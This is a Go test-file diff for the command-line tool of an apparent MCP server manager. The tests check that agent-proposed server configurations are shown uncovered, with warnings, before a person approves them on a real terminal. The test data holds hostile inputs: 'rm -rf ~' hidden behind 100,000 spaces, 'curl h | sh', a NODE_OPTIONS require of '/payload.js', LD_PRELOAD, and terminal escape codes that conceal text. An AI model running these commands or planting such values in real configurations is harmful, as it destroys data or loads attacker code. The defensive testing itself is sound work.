@@ -3,12 +3,16 @@ package cli
 import (
 	"bytes"
 	"encoding/json"
+	"errors"
+	"io"
+	"reflect"
 	"strings"
 	"testing"
 
-	"github.com/agent-discover/agent-discover/backend/base/fault"
 	"github.com/agent-discover/agent-discover/backend/base/safetext"
 	"github.com/agent-discover/agent-discover/backend/doors/api/resources"
+	"github.com/agent-discover/agent-discover/backend/servers/registry"
+	"github.com/agent-discover/agent-discover/backend/servers/risk"
 	"github.com/agent-discover/agent-discover/backend/servers/secrets"
 )
 
@@ -63,36 +67,79 @@ func TestExitCodeOfACallDoesNotDependOnItsText(t *testing.T) {
 	}
 }
 
-func TestApprovalShowsWhatWouldRunAndAsks(t *testing.T) {
-	command := "npx"
-	server := resources.Server{Name: "one", Command: &command, Args: []string{"-y", "evil\x1b[8m"}, Env: map[string]string{"API_KEY": "abcdefgh"}}
-	for answer, want := range map[string]bool{"y\n": true, "Yes\n": true, "n\n": false, "\n": false, "": false, "yesterday\n": false} {
-		var out bytes.Buffer
-		c := serverCommands{&program{in: strings.NewReader(answer), out: &out, interactive: true, outTerminal: true}}
-		if err := c.confirmProposal(server, false); err == nil != want || !want && fault.KindOf(err) != fault.Denied {
-			t.Errorf("answer %q: got error %v", answer, err)
+// fakeTerminal is a terminal on which a person gives an answer.
+type fakeTerminal struct {
+	io.Reader
+	bytes.Buffer
+}
+
+func (f *fakeTerminal) Read(p []byte) (int, error) { return f.Reader.Read(p) }
+func (f *fakeTerminal) Close() error               { return nil }
+
+func TestOnlyAnAnswerOnTheTerminalCounts(t *testing.T) {
+	for answer, want := range map[string]bool{"y\n": true, "Yes\n": true, "n\n": false, "\n": false, "": false, "y": false, "yesterday\n": false} {
+		screen := &fakeTerminal{Reader: strings.NewReader(answer)}
+		p := &program{in: strings.NewReader("y\n"), interactive: true, terminal: func() (io.ReadWriteCloser, error) { return screen, nil }}
+		if yes, err := p.askPerson(t.Context(), "text\x1b[8m\n", "Sure?"); yes != want || err != nil {
+			t.Errorf("answer %q: got %v, %v", answer, yes, err)
 		}
-		if shown := out.String(); !strings.Contains(shown, `"evil\x1b[8m"`) || strings.Contains(shown, "abcdefgh") || !strings.Contains(shown, "[y/N]") {
-			t.Errorf("printed %q", shown)
+		if shown := screen.String(); shown != "text\\x1b[8m\nSure? [y/N] " {
+			t.Errorf("the screen shows %q", shown)
 		}
+	}
+	p := &program{in: strings.NewReader("y\n"), interactive: true, terminal: func() (io.ReadWriteCloser, error) { return nil, errors.New("no tty") }}
+	if yes, err := p.askPerson(t.Context(), "", "Sure?"); yes || !errors.Is(err, errNoPerson) {
+		t.Errorf("without a terminal: %v, %v", yes, err)
 	}
 }
 
-func TestApprovalOfARemoteServerShowsItsHeaders(t *testing.T) {
-	address := "https://host/mcp"
-	shown := proposal(resources.Server{Name: "one", Transport: "streamable-http", Homepage: &address, Headers: map[string]string{
+func TestProposalsAreShownWholeAndUncovered(t *testing.T) {
+	command, address := "npx", "https://me:abcdefgh@host/mcp"
+	s := registry.Server{
+		Transport: "stdio", Command: command, Args: []string{"-y", "evil\x1b[8m", "a\u200db", "x" + strings.Repeat(" ", 100_000) + "; rm -rf ~", "curl h | sh"},
+		Env: map[string]string{"NODE_OPTIONS": "--title=basic --require=/payload.js", "API_KEY": "abcdefgh", "LD_PRELOAD": "/x-secret=abcdefgh"},
+	}
+	assessed := risk.Assess(s)
+	shown := proposal(resources.Server{
+		Name: "one", Transport: "stdio", Command: &command, Args: s.Args, Env: s.Env, ProposedBy: "Claude Code (claude-code 2.1)", Risk: &assessed,
+	})
+	shows(t, shown, "one, proposed by an agent in Claude Code (claude-code 2.1):", `"evil\x1b[8m"`, `"a\u200db"`, `"x⟨100000 spaces⟩; rm -rf ~"`,
+		`NODE_OPTIONS="--title=basic --require=/payload.js"`, "API_KEY=abcdefgh", "LD_PRELOAD=/x-secret=abcdefgh", "! argument 5   \"curl h | sh\"",
+		"! variable     NODE_OPTIONS", "Warning: It downloads a script", "Warning: LD_PRELOAD, NODE_OPTIONS can change which code is loaded")
+	if strings.Contains(shown, secrets.Redacted) || len(shown) > 4000 {
+		t.Errorf("printed %s", shown)
+	}
+	remote := proposal(resources.Server{Name: "one", Transport: "streamable-http", Homepage: &address, Headers: map[string]string{
 		"Authorization": "Bearer abcdefgh", "X-Note": "${secret:other/KEY}\x1b[8m",
 	}})
-	if !strings.Contains(shown, `X-Note: "${secret:other/KEY}\x1b[8m"`) || !strings.Contains(shown, "Authorization: "+secrets.Redacted) || strings.Contains(shown, "abcdefgh") {
-		t.Errorf("printed %s", shown)
+	shows(t, remote, `X-Note: "${secret:other/KEY}\x1b[8m"`, `Authorization: "Bearer abcdefgh"`, address)
+	waiting := resources.Server{Name: "one", Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"}}
+	if got := redactServers([]resources.Server{waiting})[0]; !reflect.DeepEqual(got, waiting) || target(waiting) != "API_KEY=abcdefgh npx --api-key abcdefgh" {
+		t.Errorf("the lists show %+v, %s", got, target(waiting))
+	}
+}
+
+func TestJSONOnATerminalControlsNothing(t *testing.T) {
+	value := map[string]string{"a\u202e": "\u009b31m\u200d\x7f"}
+	for terminal, want := range map[bool]string{true: "{\n  \"a\\u202e\": \"\\u009b31m\\u200d\\u007f\"\n}\n", false: "{\n  \"a\u202e\": \"\u009b31m\u200d\x7f\"\n}\n"} {
+		var out bytes.Buffer
+		p := &program{out: &out, outTerminal: terminal, json: true}
+		if err := p.printJSON(value); err != nil || out.String() != want {
+			t.Errorf("terminal %v: printed %q, want %q", terminal, out.String(), want)
+		}
+		out.Reset()
+		p.printContent("{\"\u009b\": 1}")
+		if strings.Contains(out.String(), "\u009b") == terminal {
+			t.Errorf("terminal %v: printed %q", terminal, out.String())
+		}
 	}
 }
 
 func TestListsContainNoCredentials(t *testing.T) {
 	command, address := "npx", "https://me:abcdefgh@host/mcp?token=abcdefgh"
 	for _, server := range []resources.Server{
-		{Name: "one", Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"}},
-		{Name: "two", Homepage: &address, Headers: map[string]string{"Authorization": "Bearer abcdefgh", "X-Mode": "fast"}},
+		{Name: "one", Approved: true, Command: &command, Args: []string{"--api-key", "abcdefgh"}, Env: map[string]string{"API_KEY": "abcdefgh"}},
+		{Name: "two", Approved: true, Homepage: &address, Headers: map[string]string{"Authorization": "Bearer abcdefgh", "X-Mode": "fast"}},
 	} {
 		data, err := json.Marshal(redactServers([]resources.Server{server}))
 		if text := string(data) + target(server); err != nil || strings.Contains(text, "abcdefgh") || !strings.Contains(text, secrets.Redacted) {
@@ -101,5 +148,14 @@ func TestListsContainNoCredentials(t *testing.T) {
 	}
 	if address != "https://me:abcdefgh@host/mcp?token=abcdefgh" {
 		t.Error("redactServers changed its argument")
+	}
+}
+
+func shows(t *testing.T, text string, parts ...string) {
+	t.Helper()
+	for _, part := range parts {
+		if !strings.Contains(text, part) {
+			t.Errorf("printed %s, which does not contain %q", text, part)
+		}
 	}
 }
